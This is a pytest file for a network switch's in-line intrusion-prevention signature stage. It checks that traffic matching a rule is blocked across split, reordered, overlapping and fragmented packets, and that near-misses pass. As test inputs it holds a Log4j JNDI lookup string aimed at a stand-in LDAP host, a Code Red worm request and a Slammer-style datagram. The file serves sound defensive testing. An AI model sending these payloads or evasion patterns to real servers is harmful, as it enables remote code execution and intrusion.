"""The in-line signature stage (csrc/sigstage.c) through simulated guests: a policy's
[signatures] on guest b's NI, guest a attacking b's web server (port 80).

Every test checks what the receiving guest got, not only what the stage said: a drop rule
must keep the rule's bytes from the receiver whatever the sender does to its segments
(split to single bytes, out of order, overlapping copies with other content, IP fragments),
and benign traffic that comes close (the near-misses) must arrive whole.
"""
from __future__ import annotations

import os
import shutil

import pytest

from nikit import IP6S, IPS, time_limit
from tcpkit import ACK, FIN, FROM_GUEST as FROM, RST, Conn
from test_tcp_reassembly import fragments, ip_fragment

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

RULES = r'''
drop tcp any any -> $HOME_NET any (msg:"EXPLOIT Log4j JNDI lookup"; flow:to_server,established; content:"${jndi:"; nocase; classtype:attempted-admin; sid:101; rev:3;)
alert tcp any any -> $HOME_NET $HTTP_PORTS (msg:"hello seen"; flow:to_server,established; content:"hello"; sid:102;)
drop tcp any any -> $HOME_NET any (msg:"evil at 10..30"; flow:to_server,established; content:"evil"; offset:10; depth:20; sid:103;)
reject tcp any any -> $HOME_NET any (msg:"reject me"; flow:to_server,established; content:"REJECTME"; sid:104;)
pass tcp any any -> $HOME_NET any (msg:"trusted"; flow:to_server,established; content:"TRUSTED-CLIENT"; sid:105;)
drop tcp $HOME_NET any -> any any (msg:"leak in response"; flow:to_client,established; content:"SECRET-KEY"; sid:106;)
drop udp any any -> $HOME_NET 1434 (msg:"slammer"; dsize:>100; content:"|04|"; depth:1; sid:107;)
drop tcp any any -> $HOME_NET any (msg:"two parts"; flow:to_server,established; content:"PART-ONE"; content:"PART-TWO"; distance:0; within:40; sid:108;)
'''
JNDI = b"${jndi:ldap://evil.example/a}"


@pytest.fixture(autouse=True)
def _limit():
    with time_limit(90, "the test"):
        yield


def sig_policy(rules_path: str, **sig) -> str:
    extra = "".join(f"{k} = {v}\n" for k, v in sig.items())
    return (f'[ni]\naddresses = ["{IPS["b"]}/32", "{IP6S["b"]}/128"]\n[signatures]\nrules = ["{rules_path}"]\n{extra}'
            '[signatures.vars]\nHTTP_PORTS = "[80,8080]"\n')


@pytest.fixture
def rules_file(tmp_path):
    p = tmp_path / "t.rules"
    p.write_text(RULES)
    return str(p)


@pytest.fixture
def sk(kits, rules_file):
    """A Kit whose b has the test rules, and an open connection a -> b:80."""
    k = kits({"b": sig_policy(rules_file)})
    return k


def conn(k, cport: int = 40000, family: int = 4, sport: int = 80) -> Conn:
    c = Conn(k, client="a", server="b", cport=cport, sport=sport, family=family)
    c.open()
    k.step()
    return c


def got(c: Conn, name: str = "b", wait: float = 0.4) -> bytes:
    return b"".join(s.payload for s in c.recv(name, wait))


def sig_alerts(k, sid: int) -> list[dict]:
    return [a for a in k.alerts() if a.get("fields", {}).get("alert", {}).get("signature_id") == sid]


# ---------------------------------------------------------------------------
# Actions, alerts, counters
# ---------------------------------------------------------------------------

def test_drop_stops_the_segment_completing_the_match_and_everything_after(sk):
    c = conn(sk)
    c.send("a", c.data("a", b"GET / HTTP/1.1\r\nX: ${jn"))
    assert got(c) == b"GET / HTTP/1.1\r\nX: ${jn"        # no match yet: released at once
    c.send("a", c.data("a", b"di:ldap://x/}\r\n"))
    assert got(c) == b""                                  # completes the match: dropped
    c.send("a", c.data("a", b"more"), c.data("a", b"and more"))
    assert got(c) == b""                                  # the rest of the flow too
    c.send("b", c.data("b", b"HTTP/1.1 200 OK\r\n"))
    assert got(c, "a") == b""                             # both ways
    st = sk.stats("b")
    assert st["sig_dropped"] == 1 and st["sig_flow_dropped"] >= 3
    # a stopped connection keeps nothing: it must not fill tcp_bytes_max until it idles out
    assert sk.daemon.switch.tcp_bytes(sk.daemon.nis["b"].port.index) == 0
    a = sk.wait_alert("signature 101", "b")
    f = a["fields"]
    assert f["alert"] == {**f["alert"], "action": "blocked", "signature_id": 101, "rev": 3, "gid": 1,
                          "signature": "EXPLOIT Log4j JNDI lookup", "category": "attempted-admin",
                          "severity": 1, "rule_action": "drop"}
    assert (f["src_ip"], f["src_port"], f["dest_ip"], f["dest_port"], f["proto"], f["direction"]) == \
        (IPS["a"], 40000, IPS["b"], 80, "TCP", "to_server")
    assert f["stream_offset"] == len(b"GET / HTTP/1.1\r\nX: ${jndi:")
    info = sk.nk("b").info()["signatures"]
    assert info["per_rule"]["101"] == {"matches": 1, "drops": 1, "msg": "EXPLOIT Log4j JNDI lookup"}
    from types import SimpleNamespace
    from vhostni.admin.commands import ni_info               # what query-nis answers
    q = ni_info(SimpleNamespace(daemon=sk.daemon, runtime_nis=set()), sk.daemon.nis["b"])
    assert q["signatures"]["per_rule"]["101"]["drops"] == 1 and q["signatures"]["sig_dropped"] == 1
    assert q["counters"]["sig_dropped"] == 1


def test_alert_rule_only_alerts_and_benign_traffic_flows(sk):
    c = conn(sk)
    c.send("a", c.data("a", b"GET /hello HTTP/1.1\r\n\r\n"))
    assert got(c) == b"GET /hello HTTP/1.1\r\n\r\n"
    c.send("b", c.data("b", b"HTTP/1.1 200 OK\r\n\r\nhello back"))
    assert got(c, "a") == b"HTTP/1.1 200 OK\r\n\r\nhello back"
    a = sk.wait_alert("signature 102", "b")
    assert a["fields"]["alert"]["action"] == "allowed"
    assert len(sig_alerts(sk, 102)) == 1                  # once per stream, not per segment
    assert sk.stats("b")["sig_dropped"] == 0


def test_reject_resets_both_ends(sk):
    c = conn(sk)
    c.send("a", c.data("a", b"xx REJECTME yy"))
    to_b, to_a = c.recv("b", 0.5), c.recv("a", 0.5)
    assert b"REJECTME" not in b"".join(s.payload for s in to_b)
    assert any(s.has(RST) for s in to_b) and any(s.has(RST) for s in to_a)
    assert sig_alerts(sk, 104)[0]["fields"]["alert"]["taken"] == "reject"


def test_pass_rule_ends_inspection_of_the_flow(sk):
    c = conn(sk)
    c.send("a", c.data("a", b"HELLO TRUSTED-CLIENT\r\n"))
    assert got(c) == b"HELLO TRUSTED-CLIENT\r\n"
    c.send("a", c.data("a", JNDI))
    assert got(c) == JNDI                                 # passed: no longer inspected
    assert sk.stats("b")["sig_passed_flows"] == 1 and not sig_alerts(sk, 101)
    other = conn(sk, cport=40001)                        # another connection is inspected
    other.send("a", other.data("a", JNDI))
    assert got(other) == b""


def test_direction_to_client_rule_leaves_requests_alone(sk):
    c = conn(sk)
    c.send("a", c.data("a", b"GET /SECRET-KEY HTTP/1.1\r\n"))   # to_server: rule 106 does not apply
    assert got(c) == b"GET /SECRET-KEY HTTP/1.1\r\n"
    c.send("b", c.data("b", b"HTTP/1.1 200 OK\r\n\r\nSECRET-KEY=abc"))
    assert got(c, "a") == b""
    assert sig_alerts(sk, 106)[0]["fields"]["direction"] == "to_client"


# ---------------------------------------------------------------------------
# Evasion: the stage sees what the receiver will
# ---------------------------------------------------------------------------

def test_attack_in_one_byte_segments(sk):
    c = conn(sk)
    prefix = b"GET / HTTP/1.1\r\nUser-Agent: "
    c.send("a", c.data("a", prefix))
    assert got(c) == prefix
    for i in range(len(JNDI)):
        c.send("a", c.data("a", JNDI[i:i + 1]))
    rx = got(c, wait=0.6)
    assert rx == JNDI[:len("${jndi:") - 1]              # every byte before the completing one
    assert b"${jndi:" not in prefix + rx
    assert sig_alerts(sk, 101)


def test_attack_out_of_order_waits_for_the_gap_then_is_dropped(sk):
    c = conn(sk)
    pieces = [b"AAAA${j", b"ndi:l", b"dap://x/"]
    offs = [0, 7, 12]
    frames = [c.data("a", p, off=o) for p, o in zip(pieces, offs)]
    c.send("a", frames[2], frames[1])
    assert got(c) == b""                                  # a gap before them: nothing goes
    c.send("a", frames[0])
    rx = got(c, wait=0.6)
    assert b"${jndi:" not in rx and rx == b"AAAA${j"
    assert sig_alerts(sk, 101)


@pytest.mark.parametrize("first", ["attack", "benign"])
def test_overlapping_copies_with_other_content(sk, first):
    """A retransmission that differs from the first copy: the engine keeps the first copy and
    drops the other (the receiver keeps the first too), and the stage scans exactly that one."""
    c = conn(sk)
    attack, benign = b"x=${jndi:rmi://e/}", b"x=${jndX:rmi://e/}"
    one, two = (attack, benign) if first == "attack" else (benign, attack)
    c.send("a", c.data("a", one, off=0), c.data("a", two, off=0))
    rx = got(c, wait=0.6)
    assert b"${jndi:" not in rx
    if first == "attack":
        assert rx == b"" and sig_alerts(sk, 101)
    else:
        assert rx == benign and not sig_alerts(sk, 101)
        assert sk.stats("b")["tcp_conflict"] == 1
    assert sk.stats("b")["sig_stream_bytes"] == len(one)


@pytest.mark.parametrize("family", [4, 6])
def test_attack_in_ip_fragments(sk, family):
    c = conn(sk, family=family)
    seg = c.data("a", b"GET /" + b"A" * 27 + JNDI + b"B" * 40)
    frs = fragments(seg, [40, 16], order=[2, 0, 1])      # the pattern across fragment edges
    c.send("a", *frs)
    rx = got(c, wait=0.6)
    assert rx == b""
    assert sk.stats("b")["tcp_frag_reassembled"] == 1 and sig_alerts(sk, 101)


def test_overlapping_fragments_cannot_hide_an_attack(sk):
    c = conn(sk)
    seg = c.data("a", b"A" * 32 + JNDI + b"C" * 16)
    frs = fragments(seg, [48])
    decoy = ip_fragment(seg, 40, b"Z" * 16, True)        # over the pattern, other bytes
    c.send("a", frs[0], decoy, frs[1])
    assert b"${jndi:" not in got(c, wait=0.6)


def test_bad_checksum_decoy_does_not_blind_the_stage(sk):
    """A benign copy with a bad checksum first (the receiver drops it), then the attack: the
    engine drops the decoy as the receiver does, so the stage scans the attack."""
    c = conn(sk)
    c.send("a", c.data("a", b"x=${jndX:rmi://e/}", off=0, advance=False, bad_tcp_csum=True))
    c.send("a", c.data("a", b"x=${jndi:rmi://e/}", off=0))
    assert got(c, wait=0.6) == b"" and sig_alerts(sk, 101)


def test_attack_after_fin_is_not_delivered(sk):
    c = conn(sk)
    c.send("a", c.data("a", b"bye", flags=ACK | FIN))
    assert got(c) == b"bye"
    c.send("a", c.data("a", JNDI, off=3))                # beyond the FIN: the receiver drops it
    assert got(c) == b""


def test_attack_pipelined_behind_benign_requests(sk):
    c = conn(sk)
    benign = b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n" * 3
    c.send("a", c.data("a", benign + b"GET /?q=" + JNDI + b" HTTP/1.1\r\n\r\n"))
    rx = got(c, wait=0.6)
    assert rx == b"" and sig_alerts(sk, 101)              # the segment carrying it stops


def test_content_offset_and_depth_count_from_the_stream_start_across_segments(sk):
    c = conn(sk)
    c.send("a", c.data("a", b"12345678"), c.data("a", b"90evil and more"))   # evil at 10
    assert got(c, wait=0.6) == b"12345678" and sig_alerts(sk, 103)
    near = conn(sk, cport=40002)
    near.send("a", near.data("a", b"12evil"), near.data("a", b"-" * 40 + b"evil"))  # at 2 and 46
    assert got(near, wait=0.6) == b"12evil" + b"-" * 40 + b"evil"
    assert len(sig_alerts(sk, 103)) == 1


def test_distance_within_across_segments_and_a_near_miss(sk):
    c = conn(sk)
    c.send("a", c.data("a", b"PART-ONE" + b"." * 20), c.data("a", b"PART-TWO"))
    assert got(c, wait=0.6) == b"PART-ONE" + b"." * 20
    near = conn(sk, cport=40003)
    body = b"PART-ONE" + b"." * 41 + b"PART-TWO"            # one byte beyond `within`
    near.send("a", near.data("a", body))
    assert got(near, wait=0.6) == body
    assert len(sig_alerts(sk, 108)) == 1


def test_benign_near_misses_are_not_dropped(sk):
    c = conn(sk)
    near = [b"${jnd", b"i :ldap", b" $ {jndi:", b"{jndi:", b"$jndi:", b"${ jndi:"]
    for n in near:
        c.send("a", c.data("a", n + b"\r\n"))
    expect = b"".join(n + b"\r\n" for n in near)
    assert got(c, wait=0.6) == expect
    assert not sig_alerts(sk, 101) and sk.stats("b")["sig_stream_bytes"] == len(expect)


# ---------------------------------------------------------------------------
# Packet rules
# ---------------------------------------------------------------------------

def test_packet_rule_drops_a_datagram_and_passes_its_near_misses(sk):
    from nikit import udp_frame
    evil = udp_frame("a", "b", 5000, 1434, b"\x04" + b"A" * 200)
    small = udp_frame("a", "b", 5000, 1434, b"\x04" + b"A" * 50)       # dsize not > 100
    other = udp_frame("a", "b", 5000, 1434, b"\x05" + b"A" * 200)      # not |04| first
    sk.send("a", evil, small, other)
    rx = sk.recv("b", 0.5)
    assert rx == [small, other]
    assert sk.stats("b")["sig_packets_scanned"] == 3 and sig_alerts(sk, 107)
    assert sig_alerts(sk, 107)[0]["fields"]["proto"] == "UDP"


def test_a_pass_rule_that_matches_silences_the_other_rules_alerts(kits, tmp_path):
    """Suricata's action order puts pass first: a packet a pass rule matched raises no other
    rule's alert (suricata-verify util-action-05 alerted here); over a stream, matches from the
    pass's on are silent, earlier ones were alerted."""
    from nikit import udp_frame
    rules = tmp_path / "p.rules"
    rules.write_text('pass udp any any -> $HOME_NET 53 (msg:"trusted"; content:"TRUSTED"; sid:301;)\n'
                     'alert udp any any -> $HOME_NET 53 (msg:"word"; content:"WORD"; sid:302;)\n'
                     'pass tcp any any -> $HOME_NET any (msg:"t"; flow:to_server,established; content:"TRUSTED"; sid:303;)\n'
                     'alert tcp any any -> $HOME_NET any (msg:"w"; flow:to_server,established; content:"WORD"; sid:304;)\n')
    k = kits({"b": sig_policy(str(rules))})
    k.send("a", udp_frame("a", "b", 5000, 53, b"WORD TRUSTED"), udp_frame("a", "b", 5000, 53, b"WORD alone"))
    assert len(k.recv("b", 0.5)) == 2
    assert len(sig_alerts(k, 302)) == 1, "the alert rule alerted on the packet the pass rule matched"
    c = conn(k)
    c.send("a", c.data("a", b"first WORD, then TRUSTED, then WORD again"))
    assert got(c) == b"first WORD, then TRUSTED, then WORD again"
    assert len(sig_alerts(k, 304)) == 1          # the WORD before the pass, not the one after


# ---------------------------------------------------------------------------
# Limits, reloads
# ---------------------------------------------------------------------------

def test_stream_state_over_the_memcap_fails_closed(kits, rules_file):
    k = kits({"b": sig_policy(rules_file, lookback=1 << 20, stream_memcap=1 << 20)})
    c = Conn(k, client="a", server="b", sport=80)
    c.open()
    k.step()
    c.send("a", c.data("a", b"harmless"))
    assert got(c) == b""                                  # no state for it: not inspected, not sent
    assert k.stats("b")["sig_streams_refused"] == 1


def test_reload_keeps_open_streams_on_their_rules_and_new_ones_get_the_new(sk, rules_file, tmp_path):
    c = conn(sk)
    c.send("a", c.data("a", b"one "))
    assert got(c) == b"one "
    new_rules = tmp_path / "new.rules"
    new_rules.write_text('drop tcp any any -> $HOME_NET any (msg:"new"; flow:to_server,established; '
                         'content:"NEWBAD"; sid:201;)\n')
    sk.reload("b", sig_policy(str(new_rules)))
    assert sk.nk("b").policy.signatures.ruleset.accepted == 1
    c.send("a", c.data("a", b"NEWBAD "))
    assert got(c) == b"NEWBAD "                           # the old rules: NEWBAD is not in them
    c.send("a", c.data("a", JNDI))
    assert got(c) == b""                                  # ... and the old rule 101 still holds
    fresh = conn(sk, cport=40010)
    fresh.send("a", fresh.data("a", JNDI + b" "))
    assert got(fresh) == JNDI + b" "                      # new connection, new rules
    fresh.send("a", fresh.data("a", b"NEWBAD"))
    assert got(fresh) == b""


def test_sighup_reload_compiles_on_a_worker_thread(sk, tmp_path):
    import threading
    from vhostni.signatures import stage as stage_mod
    threads = []
    real = stage_mod.Stage.__init__

    def spy(self, *a, **kw):
        threads.append(threading.current_thread().name)
        real(self, *a, **kw)
    stage_mod.Stage.__init__ = spy
    try:
        new_rules = tmp_path / "hup.rules"
        new_rules.write_text('drop tcp any any -> $HOME_NET any (msg:"hup"; flow:to_server,established; '
                             'content:"HUPBAD"; sid:301;)\n')
        from nikit import write_policy
        write_policy(sk.policy_files["b"], sig_policy(str(new_rules)))
        sk.daemon.reload_policies_in_background()
        sk.until(lambda: sk.nk("b").policy.signatures.ruleset.accepted == 1, 20, "the reload")
    finally:
        stage_mod.Stage.__init__ = real
    assert threads == ["vhostni-policy-load"]
    c = conn(sk)
    c.send("a", c.data("a", b"HUPBAD"))
    assert got(c) == b""


def test_example_policy_blocks_code_red_while_normal_traffic_flows(kits, tmp_path):
    ex = os.path.join(ROOT, "examples")
    shutil.copytree(os.path.join(ex, "signatures"), tmp_path / "signatures")
    text = open(os.path.join(ex, "signatures.toml")).read().replace("10.77.0.1/32", f"{IPS['b']}/32")
    pol = tmp_path / "signatures.toml"
    pol.write_text(text)
    k = kits({"b": text.replace('"signatures/web.rules"', f'"{tmp_path}/signatures/web.rules"')})
    c = conn(k)
    req = b"GET /index.html HTTP/1.0\r\nHost: web\r\n\r\n"
    c.send("a", c.data("a", req))
    assert got(c) == req
    c.send("b", c.data("b", b"HTTP/1.0 200 OK\r\n\r\n<html>hi</html>"))
    assert got(c, "a") == b"HTTP/1.0 200 OK\r\n\r\n<html>hi</html>"
    worm = conn(k, cport=40100)
    codered = (b"GET /default.ida?" + b"N" * 224 + b"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3"
               b"%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a HTTP/1.0\r\n\r\n")
    worm.send("a", *[worm.data("a", codered[i:i + 100]) for i in range(0, len(codered), 100)])
    assert b"%u9090" not in got(worm, wait=0.6)
    assert sig_alerts(k, 1000001)
    c.send("a", c.data("a", req))                          # the first connection goes on
    assert got(c) == req


# ---------------------------------------------------------------------------
# Offline: vhostni replay runs the same stage (as Suricata -r does)
# ---------------------------------------------------------------------------

def test_replay_a_capture_with_rules_gives_delivered_pcap_and_alerts(tmp_path, rules_file):
    import json
    from scapy.all import IP, TCP, Ether, Raw
    from test_replay import GIP, GUEST, ROUTER, Capture, alerts_of, out_frames
    from vhostni import cli

    def to_guest(cport, flags, seq, ack, data=b""):
        p = Ether(src=ROUTER, dst=GUEST) / IP(src="10.0.0.9", dst=GIP) / TCP(
            sport=cport, dport=80, flags=flags, seq=seq, ack=ack)
        return p / Raw(data) if data else p

    def from_guest(cport, flags, seq, ack):
        return Ether(src=GUEST, dst=ROUTER) / IP(src=GIP, dst="10.0.0.9") / TCP(
            sport=80, dport=cport, flags=flags, seq=seq, ack=ack)

    cap = Capture()
    for cport, body in ((41000, [b"GET / HTTP/1.0\r\n", b"\r\n"]), (41001, [b"GET /?x=${jn", b"di:ldap://e/}"])):
        cs, ss = 1000, 5000
        cap.add(to_guest(cport, "S", cs - 1, 0))
        cap.add(from_guest(cport, "SA", ss - 1, cs))
        cap.add(to_guest(cport, "A", cs, ss))
        off = 0
        for piece in body:
            cap.add(to_guest(cport, "PA", cs + off, ss, piece))
            off += len(piece)
    inp = cap.write(tmp_path / "in.pcap")
    pol = tmp_path / "policy.json"
    pol.write_text(json.dumps({"ni": {"addresses": [f"{GIP}/32"]}, "signatures": {"rules": [rules_file]}}))
    rc = cli.main(["replay", "--guest-mac", GUEST, inp, "--policy", str(pol), "--out", str(tmp_path / "out.pcap"),
                   "--alerts", str(tmp_path / "alerts.jsonl")])
    assert rc == 0
    payloads = [bytes(Ether(d)[TCP].payload) for _, d in out_frames(tmp_path / "out.pcap") if TCP in Ether(d)]
    assert b"GET / HTTP/1.0\r\n" in payloads and b"\r\n" in payloads
    assert b"GET /?x=${jn" in payloads and b"di:ldap://e/}" not in payloads
    alerts = [a for a in alerts_of(tmp_path / "alerts.jsonl") if a.get("fields", {}).get("alert")]
    assert [a["fields"]["alert"]["signature_id"] for a in alerts] == [101]
    assert alerts[0]["fields"]["src_port"] == 41001 and alerts[0]["fields"]["stream_offset"] == len(b"GET /?x=${jndi:")


# ---------------------------------------------------------------------------
# Another holder: a contain scanner on the same stream
# ---------------------------------------------------------------------------

def test_a_byte_leaves_only_when_the_scanner_and_the_stage_both_passed_it(kit, tmp_path):
    from tcpkit import Engine
    from vhostni.signatures.rules import Vars, parse_rules
    from vhostni.signatures.stage import Stage
    e = Engine(kit, ni="a", subs=((25, "both", True),))
    rs = parse_rules('drop tcp any any -> any 25 (msg:"x"; flow:to_server,established; content:"EVILCMD"; sid:9;)',
                     Vars({}, home=[]))
    stage = Stage(rs.rules)
    kit.daemon.nis["a"].port.set_sigstage(stage)
    c = Conn(kit)                                         # a -> b:25, seen by both holders
    c.open()
    kit.step()
    c.send("a", c.data("a", b"HELO x\r\n"), c.data("a", b"EVILCMD\r\n"))
    st = e.only()
    assert bytes(st.data[FROM]) == b"HELO x\r\nEVILCMD\r\n"     # the scanner reads all of it
    assert got(c) == b""                                  # the scanner has passed nothing
    e.pass_(FROM, 100)                                    # the scanner passes everything ...
    assert got(c) == b"HELO x\r\n"                        # ... the stage only what preceded the match
    assert kit.stats("a")["sig_dropped"] == 1


def test_only_connections_a_stream_rule_can_cover_are_tracked(kits, tmp_path):
    rules = tmp_path / "ports.rules"
    rules.write_text('drop tcp any any -> $HOME_NET [7,8080:8090] (msg:"p"; flow:to_server,established; '
                     'content:"BAD"; sid:1;)\n')
    k = kits({"b": sig_policy(str(rules))})
    for port, tracked in ((80, False), (8079, False), (8080, True), (8090, True), (8091, False), (7, True),
                          (8, False)):
        c = conn(k, cport=41000 + port, sport=port)
        c.send("a", c.data("a", b"a BAD thing"))
        assert (got(c) == b"") == tracked, port
    assert k.stats("b")["tcp_flows_opened"] == 3


def test_hostile_header_blobs_are_refused_not_crashed():
    """vn_sigstage_build reads a blob our compiler wrote, but bounds-checks it as if it were
    hostile: every truncation and random corruption is refused or built, never a crash (this
    file runs under ASan in `make test-sanitize`)."""
    import random
    from vhostni._fastpath import ffi, lib
    from vhostni.signatures.rules import Vars, parse_rules
    from vhostni.signatures.stage import encode_headers
    rs = parse_rules(RULES, Vars({"HTTP_PORTS": "[80,8080]"}, home=["10.0.0.2", "fd00::2"]))
    blob = encode_headers([r for r in rs.rules if r.mode == "stream"] + [r for r in rs.rules if r.mode != "stream"])
    rc = ffi.new("int *")
    built = 0
    rng = random.Random(5)
    cases = [blob[:n] for n in range(len(blob))]
    for _ in range(3000):
        b = bytearray(blob)
        for _ in range(rng.randint(1, 4)):
            b[rng.randrange(len(b))] = rng.randrange(256)
        cases.append(bytes(b))
    cases.append(b"VSH2" + (70000).to_bytes(4, "little"))
    for b in cases:
        st = lib.vn_sigstage_build(b, len(b), ffi.NULL, ffi.NULL, rc)
        if st != ffi.NULL:
            built += 1
            lib.vn_sigstage_free(st)
        else:
            assert rc[0] < 0
    assert built == 0          # without the databases its stream and packet rules need, never built


def test_attack_behind_an_urgent_pointer_is_seen_in_the_stream(sk):
    """A receiver could pull the urgent byte out of the stream (SO_OOBINLINE off) and so
    read other bytes than were scanned; the engine clears URG: the byte stays where it was scanned."""
    from tcpkit import URG, PSH
    c = conn(sk)
    c.send("a", c.data("a", b"x${jndi:ldap://e/}", flags=ACK | PSH | URG, urg=2))
    assert got(c, wait=0.6) == b"" and sig_alerts(sk, 101)
    assert sk.stats("b")["tcp_urg_cleared"] == 1


def test_a_memcap_pass_lets_the_stage_go_too(kits, rules_file):
    """tcp_depth_over = "pass": the connection goes on uninspected, and so do the out-of-order
    bytes the engine held for the stage (not freed unsent)."""
    pol = sig_policy(rules_file).replace("[ni]\n", '[ni]\ntcp_depth_max = 15\ntcp_depth_over = "pass"\n')
    k = kits({"b": pol})
    c = conn(k)
    c.send("a", c.data("a", b"B" * 10, off=20))        # held: a gap before it
    assert got(c) == b""
    c.send("a", c.data("a", b"C" * 10, off=40))        # past the depth: bypass
    rx = c.recv("b", 0.6)
    assert sorted(s.payload for s in rx) == [b"B" * 10, b"C" * 10]
    assert k.stats("b")["tcp_bypassed"] == 1


def test_packet_rules_needing_flow_state_are_reported_not_half_enforced(tmp_path):
    """A packet rule's flow:to_server/established cannot be told without flow state: reported
    with file:line (the policy's on_unsupported decides), never enforced as if it were absent."""
    from vhostni.signatures.config import SignatureConfigError, parse_section
    p = tmp_path / "f.rules"
    p.write_text('drop udp any any -> any 53 (msg:"x"; flow:to_server; content:"abc"; sid:5;)\n'
                 'drop udp any any -> any 53 (msg:"y"; content:"abc"; sid:7;)\n')
    with pytest.raises(SignatureConfigError, match=r"f.rules:1: sid 5: flow:to_server on a packet rule"):
        parse_section({"rules": [str(p)]}, str(tmp_path), [])
    cfg = parse_section({"rules": [str(p)], "on_unsupported": "skip"}, str(tmp_path), [])
    assert [r.sid for r in cfg.ruleset.rules] == [7] and [r.sid for r in cfg.stage.rules] == [7]


def test_a_retransmission_with_other_content_after_release_is_dropped(sk):
    """The benign copy already went to the receiver (not yet acknowledged); a 'retransmission'
    carrying the attack over the same bytes is dropped by the engine, so the stage's view and
    the receiver's stay the benign one."""
    c = conn(sk)
    benign = b"x=${jndX:rmi://e/}"
    c.send("a", c.data("a", benign))
    assert got(c) == benign
    c.send("a", c.data("a", b"x=${jndi:rmi://e/}", off=0))
    assert got(c) == b"" and not sig_alerts(sk, 101)
    assert sk.stats("b")["tcp_conflict"] == 1 and sk.stats("b")["sig_stream_bytes"] == len(benign)


def test_a_stage_only_segment_never_overtakes_the_segments_a_release_queued_before_it(kits):
    """b's stage alone holds a -> b:25.  b gets the middle segment first (out of order, held);
    then one release on a's NI sends the first and the last segment on, in one drain of the
    emit queue.  The first fills b's gap: b's engine queues the first and the middle behind
    the last.  The last then finds nothing waiting before it in its flow and goes on as the
    frame itself; it must go through the queue too, or guest b gets it before the other two."""
    from vhostni.policy import DIR_FROM, Match, parse_policy
    from vhostni.signatures.rules import Vars, parse_rules
    from vhostni.signatures.stage import Stage
    k = kits({"b": f'[ni]\naddresses = ["{IPS["b"]}/32"]\n'}, names=("a", "b", "c"))
    d = k.daemon
    rs = parse_rules('alert tcp any any -> any 25 (msg:"x"; flow:to_server,established; content:"NEVER-SENT"; sid:9;)',
                     Vars({}, home=[]))
    d.nis["b"].port.set_sigstage(Stage(rs.rules))
    c = conn(k, sport=25)
    # a's NI holds a's data frames for a (test-played) contain scanner
    port_a = d.nis["a"].port
    cpol = parse_policy({"ni": {}}).compile([(Match(dirs=DIR_FROM, proto=6, dport=(25, 25)), True)], [])
    port_a.set_policy(cpol)
    from vhostni._fastpath import ffi, lib
    sw = d.switch._sw
    punt = ffi.new("struct vn_punt *")
    held = []

    def collect():
        while lib.vn_punt_next(sw, punt):
            if punt.id:
                held.append(punt.id)
    d._handlers[d.switch.punt_fd] = collect
    first, middle, last = c.data("a", b"AAAA", off=0), c.data("a", b"BBBB", off=4), c.data("a", b"CCCC", off=8)
    k.send("a", first, last)                              # held on a's NI
    k.step()
    k.until(lambda: (collect(), len(held) == 2)[1], what="a's two frames held")
    k.send("c", middle)                                   # the same connection's bytes via c
    k.step()
    assert got(c) == b""                                  # b's engine waits for the gap
    assert lib.vn_held_release_port(sw, port_a.index, 1) == 2
    assert [s.payload for s in c.recv("b") if s.payload] == [b"AAAA", b"BBBB", b"CCCC"]
